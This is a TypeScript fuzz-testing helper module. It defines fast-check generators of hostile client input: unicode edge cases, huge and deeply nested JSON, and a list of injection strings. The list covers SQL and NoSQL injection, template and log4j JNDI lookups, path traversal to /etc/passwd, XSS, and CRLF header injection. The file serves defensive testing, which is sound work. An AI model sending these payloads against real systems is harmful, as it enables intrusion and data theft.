import fc from 'fast-check';

/**
 * Arbitraries for hostile input: the strings and JSON values a careless or malicious client sends.
 * Shared by the fuzz tests; each property decides where the values go.
 */

/** A string's length as zod 4 measures it: in code points, not UTF-16 units. */
export const codePoints = (s: string): number => [...s].length;

/** Whether a value is a string whose trimmed length (in code points) lies in [min, max]: the test's copy of `z.string().trim().min().max()`. */
export const trimmedFits = (v: unknown, min: number, max: number): v is string => typeof v === 'string' && codePoints(v.trim()) >= min && codePoints(v.trim()) <= max;

/** Strings that have broken servers before: unicode edges, injections, key names, number-likes. */
export const NASTY_STRINGS: readonly string[] = [
  '', ' ', '\t\n', '\u0000', 'a\u0000b', '\u0000'.repeat(64),
  // Lone and reversed surrogates: not encodable as UTF-8, JSON.parse still yields them from escapes.
  '\ud800', '\udfff', 'x\ud83dy', '\ude00\ud83d', '\ud83d\ude00',
  // Direction overrides, zero-width characters, BOM, line separators, combining marks, case traps.
  '\u202eexe.txt', '\u200f\u05e9\u05dc\u05d5\u05dd', 'مرحبا بالعالم', '\u200b', '\u200c\u200d', '\ufeff', '\u2028\u2029', 'a\u0301\u0301\u0301', 'İı', 'ß', 'ﬀ', '\u{1F468}\u200d\u{1F469}\u200d\u{1F467}',
  '\u00a0', '\r\n', '\r\nx-injected: 1', '\\', '"', "'", '`', '/', '//', '?', '#', '&', '%', '%00', '%2F', '%E0%A4%A', '%%%', '+', '=', ';',
  // Injection-looking strings: SQL, NoSQL, template, log4j, path traversal, HTML, DynamoDB expressions.
  "' OR '1'='1", '"; DROP TABLE pantau; --', '1; SELECT * FROM users', '{"$gt":""}', '$where', '{{7*7}}', '${7*7}', '#{7*7}', '${jndi:ldap://x.example/a}',
  '../../../../etc/passwd', '..\\..\\windows\\win.ini', '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', 'javascript:alert(1)',
  'attribute_not_exists(pk)', ':expected', '#pk', 'pk', 'sk', 'PROPOSAL#USL-0000-0000-0000', 'EVENT#000001', 'ORG#BKN-PUSAT', 'IDEMPOTENCY#x#y',
  // Prototype and key-name traps.
  '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf',
  // Things that look like other types.
  'null', 'undefined', 'NaN', 'Infinity', '-0', '0x10', '1e309', '9007199254740993', 'true', '[]', '{}', '0', '-1', '1.5', ' 1 ', '01',
  // Lookalikes of valid values.
  'USL-0000-0000-0000', 'usl-0000-0000-0000', 'USL-OOOO-IIII-LLLL', 'CUTI ', 'cuti', 'ＣＵＴＩ', '１２３４５６', '199001012015032001 ', '１９９００１０１２０１５０３２００１',
];

/** Single characters worth mixing into longer strings. */
const NASTY_CHARS = ['\u0000', '\ud800', '\udc00', '\u202e', '\u200b', '\ufeff', '\u2028', '"', '\\', '/', '%', '#', ':', "'", '<', '\n', 'é', '漢', '\u{1F600}'];

/** A huge string: past field limits, and sometimes past the body limit. */
export const hugeString = fc
  .tuple(fc.integer({ min: 1_000, max: 90_000 }), fc.constantFrom('x', 'é', '\u{1F600}', '\u0000', '9'))
  .map(([n, unit]) => unit.repeat(n));

/** Any string a client could send, weighted towards the nasty ones. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...NASTY_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }) },
  { weight: 2, arbitrary: fc.string({ unit: fc.oneof(fc.constantFrom(...NASTY_CHARS), fc.string({ minLength: 1, maxLength: 1 })), maxLength: 30 }) },
  { weight: 1, arbitrary: fc.string({ maxLength: 300 }).map((s) => s.repeat(8)) },
  { weight: 1, arbitrary: hugeString },
);

/** A hostile string made of visible ASCII only: what fits in an HTTP header or a URL unescaped. */
export const hostileAscii: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...NASTY_STRINGS.filter((s) => /^[\x21-\x7e]+$/.test(s))),
  fc.string({ unit: fc.integer({ min: 0x21, max: 0x7e }).map((c) => String.fromCharCode(c)), minLength: 1, maxLength: 200 }),
);

/** Numbers JSON can carry that code often does not expect. */
export const hostileNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(0, -0, -1, 1.5, 0.1, 2 ** 31, 2 ** 53, 2 ** 53 + 2, -(2 ** 53), 1e21, 1e308, -1e308, 5e-324, Number.MAX_VALUE),
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

/** JSON values of every kind, hostile at the leaves, small enough to send. */
export const hostileJson: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    hostileString.filter((s) => s.length < 2_000),
    hostileNumber,
    fc.boolean(),
    fc.constant(null),
    fc.array(tie('value'), { maxLength: 5 }),
    fc.dictionary(fc.oneof(hostileString.filter((s) => s.length < 100), fc.string()), tie('value'), { maxKeys: 5 }),
  ),
})).value;

/**
 * A JSON fragment as raw text, for what JSON.stringify cannot produce or would choke on: deep
 * nesting (tens of thousands of levels), numbers past double range, duplicate keys.
 */
export class RawJson {
  constructor(readonly text: string) {}
}

const nested = (depth: number, kind: '[]' | '{}') =>
  new RawJson(kind === '[]' ? `${'['.repeat(depth)}${']'.repeat(depth)}` : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`);

/** Arrays or objects nested `min` levels deep or more: around the API's limit of 32, and far past it. */
export const nestedAtLeast = (min: number): fc.Arbitrary<RawJson> =>
  fc
    .tuple(fc.oneof(fc.integer({ min, max: Math.max(min, 64) }), fc.integer({ min: Math.max(min, 1_000), max: 30_000 })), fc.constantFrom('[]' as const, '{}' as const))
    .map(([depth, kind]) => nested(depth, kind));

export const deepNesting = nestedAtLeast(20);

export const oddJsonFragment: fc.Arbitrary<RawJson> = fc.oneof(
  { weight: 2, arbitrary: deepNesting },
  { weight: 1, arbitrary: fc.constantFrom('1e400', '-1e400', '-0', '1E+2', '0.0000000000000000000000001', '123456789012345678901234567890', '"\\ud800"', '"\\u0000"', '[]', '{}').map((t) => new RawJson(t)) },
);

/**
 * JSON text of a value, own keys in order (so `__proto__` stays a key), RawJson fragments as they
 * are, and no recursion limit worth worrying about for the shallow values the tests build.
 */
export function jsonText(value: unknown): string {
  if (value instanceof RawJson) return value.text;
  if (Array.isArray(value)) return `[${value.map(jsonText).join(',')}]`;
  if (value !== null && typeof value === 'object') {
    return `{${Object.keys(value).map((key) => `${JSON.stringify(key)}:${jsonText((value as Record<string, unknown>)[key])}`).join(',')}}`;
  }
  return JSON.stringify(value) ?? 'null';
}

/** An object with exactly these own entries, `__proto__` included as a plain key. */
export const objectOf = (entries: Iterable<readonly [string, unknown]>): Record<string, unknown> => Object.fromEntries(entries);

/** Strings that JSON.parse refuses. */
export const notJson: fc.Arbitrary<string> = fc
  .oneof(hostileString, fc.constantFrom('{', '{"a":1', "{'a':1}", '{"a":1,}', '[1,]', 'NaN', 'undefined', '{"a":undefined}', '\ufeff{}', '{"a":1}}', '01', '--1', '"\\x41"', 'tru'))
  .filter((text) => {
    try {
      JSON.parse(text);
      return false;
    } catch {
      return true;
    }
  });
